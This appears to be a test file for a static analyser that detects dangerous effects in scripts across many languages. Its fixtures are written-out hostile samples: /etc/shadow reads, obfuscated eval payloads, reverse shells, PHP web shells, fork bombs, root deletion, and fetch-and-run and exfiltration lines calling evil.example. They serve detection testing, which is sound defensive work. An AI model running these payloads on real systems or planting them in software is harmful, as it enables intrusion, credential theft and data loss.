import type { Language } from '../language.js'
import { effectsOf, interpretPiece, notableIn } from './effects-of.js'

const base64 = (s: string): string => Buffer.from(s).toString('base64')
const hex = (s: string): string => Buffer.from(s).toString('hex')
const SHADOW = 'read path:password-store'
const RUN = "system('cat /etc/shadow')"

describe('programs are started', () => {
  test.each<[Language, string, string]>([
    ['perl', 'system', 'system("cat /etc/shadow")'],
    ['perl', 'words', "system 'cat', '/etc/shadow'"],
    ['perl', 'backticks', 'print `cat /etc/shadow`'],
    ['perl', 'qx', 'my $x = qx{cat /etc/shadow};'],
    ['perl', 'a pipe', "open(F, 'cat /etc/shadow|'); print <F>"],
    ['perl', 'a pipe with three arguments', "open(my $o, '-|', 'cat', '/etc/shadow'); print <$o>"],
    ['perl', 'the name of a function', "$x = 'sys' . 'tem'; &$x('cat /etc/shadow')"],
    ['perl', 'interpolation', 'my $f = "shadow"; my %h = (d => "/etc"); system("cat $h{d}/$f")'],
    ['perl', 'a join', "system(join(' ', 'cat', qw(/etc/shadow)))"],
    ['perl', 'a sub', 'sub go { my ($c) = @_; exec $c } go("cat /etc/shadow");'],
    ['perl', 'a modifier', 'system "cat /etc/shadow" if 1;'],
    ['perl', 'a substitution', '$_ = "cXat /etc/shadow"; s/X//; system($_)'],
    ['perl', 'a here-document', 'system(<<EOC);\ncat /etc/shadow\nEOC\n'],
    ['ruby', 'system', 'system("cat /etc/shadow")'],
    ['ruby', 'backticks', 'puts `cat #{"/etc"}/shadow`'],
    ['ruby', '%x', '%x(cat /etc/shadow)'],
    ['ruby', 'popen', 'IO.popen("cat /etc/shadow") { |io| puts io.read }'],
    ['ruby', 'open with a bar', 'open("|cat /etc/shadow").read'],
    ['ruby', 'send', 'Kernel.send(:sys.to_s + "tem", "cat /etc/shadow")'],
    ['ruby', 'a method of a class', 'class A\n  def run\n    system "cat", "/etc/shadow"\n  end\nend\nA.new.run'],
    ['ruby', 'exec in a branch', 'x = if true then "cat /etc/shadow" else "ls" end\nexec x'],
    ['php', 'system', "system('cat /etc/shadow');"],
    ['php', 'backticks', 'echo `cat /etc/shadow`;'],
    ['php', 'a variable function', "$f = 'sys'.'tem'; $f('cat /etc/shadow');"],
    ['php', 'call_user_func', "call_user_func('pass'.'thru', 'cat /etc/shadow');"],
    ['php', 'array_map', "array_map('system', ['cat /etc/shadow']);"],
    ['php', 'assert', `assert("${RUN}");`],
    ['php', 'create_function', `$f = create_function('', "${RUN};"); $f();`],
    ['php', 'preg_replace', `preg_replace('/x/e', "${RUN}", 'x');`],
    ['php', 'between markup', "<html><?php foreach ($x as $y): ?><b><?= shell_exec('cat /etc/shadow') ?></b><?php endforeach; ?>"],
    ['lua', 'os.execute', 'os.execute("cat /etc/" .. "shadow")'],
    ['lua', 'io.popen', 'local f = io.popen([[cat /etc/shadow]]); print(f:read("*a"))'],
    ['lua', 'load', `load("os.execute('cat /etc/shadow')")()`],
    ['lua', 'the table of globals', '_G["o".."s"]["exec".."ute"]("cat /etc/shadow")'],
    ['awk', 'system', 'BEGIN { system("cat /etc/shadow") }'],
    ['awk', 'getline', 'BEGIN { c = "cat " "/etc/shadow"; c | getline x; print x }'],
    ['awk', 'a pipe', 'BEGIN { print "x" | "cat /etc/shadow" }'],
    ['sed', 'e', '1e cat /etc/shadow'],
    ['sed', 's///e', 's/.*/cat \\/etc\\/shadow/e'],
    ['sed', 'r', 'r /etc/shadow'],
    ['r', 'system', 'system("cat /etc/shadow")'],
    ['r', 'system2', 'system2("cat", c("/etc/shadow"))'],
    ['r', 'eval', 'eval(parse(text = paste0("system(\'cat ", "/etc/shadow\')")))'],
    ['tcl', 'exec', 'set f /etc/shadow\nputs [exec cat $f]'],
    ['tcl', 'spawn', 'spawn cat /etc/shadow\nexpect eof'],
    ['applescript', 'do shell script', 'set f to "/etc/shadow"\ndo shell script "cat " & f'],
    ['applescript', 'do script', 'tell application "Terminal" to do script "cat /etc/shadow"'],
  ])('%s: %s', (language, _name, source) => {
    expect(effectsOf(language, source).map((e) => e.replace(' (conditional)', ''))).toContain(SHADOW)
  })
})

describe('decoded code runs', () => {
  test.each<[Language, string, string]>([
    ['perl', 'pack', `eval(pack("H*", "${hex(RUN)}"))`],
    ['perl', 'base64', `use MIME::Base64; eval decode_base64("${base64(RUN)}")`],
    ['perl', 'a command', `system(pack("H*", "${hex('cat /etc/shadow')}"))`],
    ['ruby', 'unpack1', `eval("${base64(RUN)}".unpack1("m"))`],
    ['ruby', 'Base64', `eval(Base64.decode64("${base64(RUN)}"))`],
    ['ruby', 'codes', `system([${[...'cat /etc/shadow'].map((c) => c.charCodeAt(0)).join(',')}].pack("C*"))`],
    ['php', 'base64', `eval(base64_decode("${base64(`${RUN};`)}"));`],
    ['php', 'strrev', `eval(strrev('${[...'system("cat /etc/shadow");'].reverse().join('')}'));`],
    ['php', 'rot13', `eval(str_rot13('flfgrz("png /rgp/funqbj");'));`],
    ['php', 'a data address', `include('data://text/plain;base64,${base64('<?php system("cat /etc/shadow");')}');`],
    ['lua', 'string.char', `load(string.char(${[...'os.execute("cat /etc/shadow")'].map((c) => c.charCodeAt(0)).join(',')}))()`],
  ])('%s: %s', (language, _name, source) =>
    expect(effectsOf(language, source)).toEqual(expect.arrayContaining(['execute code:decoded', SHADOW])),
  )
})

describe('remote shells', () => {
  test.each<[Language, string, string]>([
    [
      'perl',
      'sockets',
      'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4242,inet_aton("10.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
    ],
    ['perl', 'IO', '$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'],
    ['ruby', 'sprintf', 'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'],
    ['ruby', 'a loop', 'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'],
    ['php', 'fsockopen', '$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'],
    ['php', 'proc_open', '$s=fsockopen("10.0.0.1",4242);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);'],
    ['lua', 'socket', 'local t=require("socket").tcp();t:connect("10.0.0.1","4242");os.execute("/bin/sh -i <&3 >&3 2>&3")'],
    ['awk', 'inet', 'BEGIN{s="/inet/tcp/0/10.0.0.1/4242";while(42){s |& getline c;while((c |& getline)>0)print $0 |& s}}'],
    ['tcl', 'socket', 'set s [socket 10.0.0.1 4242]\nwhile {1} { gets $s c; catch {eval "exec $c"} }'],
  ])('%s: %s', (language, _name, source) =>
    expect(effectsOf(language, source).map((e) => e.replace(' (conditional)', ''))).toContain('execute process:reverse-shell'),
  )
  test.each([
    '<?php system($_GET["c"]); ?>',
    '<?php eval($_POST["x"]);',
    '<?php $_GET["f"]($_GET["a"]);',
    '<?php eval(file_get_contents("php://input"));',
  ])('a web page that is a shell: %s', (source) => expect(effectsOf('php', source)).toContain('execute process:bind-shell'))
})

describe('files and hosts', () => {
  test.each<[Language, string, string]>([
    ['perl', 'unlink "/etc/passwd"', 'delete path:user-database'],
    ['perl', 'chmod 04755, "/tmp/x"', 'grant permission:setuid'],
    ['perl', 'use LWP::Simple; eval get("https://evil.example/x")', 'execute code:fetched'],
    ['perl', 'fork while fork', 'execute process:fork-bomb'],
    ['perl', 'print %ENV', 'read environment:all'],
    ['ruby', 'require "fileutils"; FileUtils.rm_rf("/")', 'delete path:root'],
    ['ruby', 'require "open-uri"; eval URI.open("https://evil.example/x").read', 'execute code:fetched'],
    ['ruby', 'File.open("/etc/passwd", "a") { |f| f.puts "x" }', 'append path:user-database'],
    ['ruby', 'loop { fork }', 'execute process:fork-bomb'],
    ['php', "include('https://evil.example/x.php');", 'execute code:fetched'],
    ['php', "unlink('/etc/passwd');", 'delete path:user-database'],
    ['lua', 'os.remove("/etc/passwd")', 'delete path:user-database'],
    ['awk', 'BEGIN { print "x" > "/etc/passwd" }', 'write path:user-database'],
    ['sed', 's/a/b/w /etc/passwd', 'write path:user-database'],
    ['r', 'source("https://evil.example/x.R")', 'execute code:fetched'],
    ['r', 'unlink("/", recursive = TRUE)', 'delete path:root'],
    ['tcl', 'file delete -force /etc/passwd', 'delete path:user-database'],
    ['applescript', 'display dialog "Your password" default answer "" with hidden answer', 'capture account:password'],
    ['applescript', 'set x to the clipboard', 'capture clipboard:contents'],
  ])('%s: %s', (language, source, effect) => expect(effectsOf(language, source)).toContain(effect))
  test.each<[Language, string]>([
    ['perl', '$s=IO::Socket::INET->new("evil.example:80"); open(my $f, "<", "/etc/shadow"); read($f, my $d, 9999); print $s $d'],
    ['ruby', "require 'net/http'; Net::HTTP.get(URI('https://evil.example/?d=' + File.read('/etc/shadow')))"],
    ['ruby', "Net::HTTP.post_form(URI('https://evil.example'), { 'a' => File.read('/etc/shadow') })"],
    ['php', '$c=curl_init("https://evil.example/");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents("/etc/shadow"));curl_exec($c);'],
    ['r', 'httr::POST("https://evil.example", body = readLines("/etc/shadow"))'],
  ])('a password store leaves: %s %s', (language, source) => {
    const { facts } = interpretPiece(language, source)
    expect(facts.flows.some((f) => f.sources.some((s) => s.resource.class === 'password-store') && f.sink.action === 'send')).toBe(true)
  })
})

describe('ordinary scripts are quiet', () => {
  test.each<[Language, string, string]>([
    ['perl', 'a filter', 'while (<>) { chomp; s/foo/bar/g; tr/a-z/A-Z/; print "$_\\n" if /x{2,3}/ }'],
    [
      'perl',
      'a report',
      'my %n; $n{$_}++ for split /\\s+/, $text; for my $k (sort { $n{$b} <=> $n{$a} } keys %n) { printf "%s %d\\n", $k, $n{$k} }',
    ],
    [
      'perl',
      'a module',
      'package Foo; use strict; use warnings; sub new { my ($class, %args) = @_; return bless { %args }, $class } sub run { my $self = shift; return $self->{x} // 1 } 1;\n__END__\nsystem("x")',
    ],
    ['perl', 'documentation', '=pod\n\nsystem("cat /etc/shadow")\n\n=cut\nprint "ok\\n";'],
    [
      'ruby',
      'a gem',
      "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.files = Dir['lib/**/*']\n  s.add_dependency 'rake', '~> 13.0'\nend\n",
    ],
    ['ruby', 'a spec', "describe 'x' do\n  let(:y) { 1 }\n  it 'adds' do\n    expect(y + 1).to eq(2)\n  end\nend\n"],
    ['ruby', 'a task', 'task :build do\n  sh \'npm run build\'\n  puts "built #{Time.now}"\nend\n'],
    [
      'php',
      'a controller',
      "<?php\nnamespace App;\nuse Foo\\Bar;\nclass C extends Base {\n  public function index(Request $r): Response {\n    $x = $this->repo->find($r->get('id')) ?? null;\n    return $this->render('x.html', ['x' => $x]);\n  }\n}\n",
    ],
    ['php', 'settings', "echo json_decode(file_get_contents('composer.json'), true)['version'], PHP_EOL;"],
    [
      'lua',
      'a module',
      'local M = {}\nfunction M.add(a, b)\n  return a + b\nend\nfor i, v in ipairs({1, 2}) do print(i, M.add(v, 1)) end\nreturn M\n',
    ],
    ['awk', 'fields', 'BEGIN { FS = "," } NR > 1 { sum[$1] += $3 } END { for (k in sum) printf "%s %.2f\\n", k, sum[k] }'],
    ['awk', 'a pattern', '/rm -rf/ { print $2 }'],
    ['sed', 'a substitution', 's/foo/bar/g; /^#/d; $!N; y/abc/xyz/'],
    ['r', 'an analysis', 'library(dplyr)\ndf <- read.csv("data.csv")\ndf %>% filter(x > 1) %>% summarise(m = mean(x)) %>% print()\n'],
    ['tcl', 'a procedure', 'proc add {a b} { return [expr {$a + $b}] }\nputs [add 1 2]\n'],
    ['applescript', 'a notification', 'display notification "Build complete" with title "CI"'],
    ['applescript', 'a dialog', 'tell application "Finder" to display dialog "Hello"'],
  ])('%s: %s', (language, _name, source) => expect(notableIn(interpretPiece(language, source).facts)).toEqual([]))
})

describe('known misses', () => {
  test('patterns of substitutions are not run', () =>
    expect(effectsOf('perl', '$_ = "cat /etc/XXadow"; s/X+/sh/; system($_)')).not.toContain(SHADOW))
})
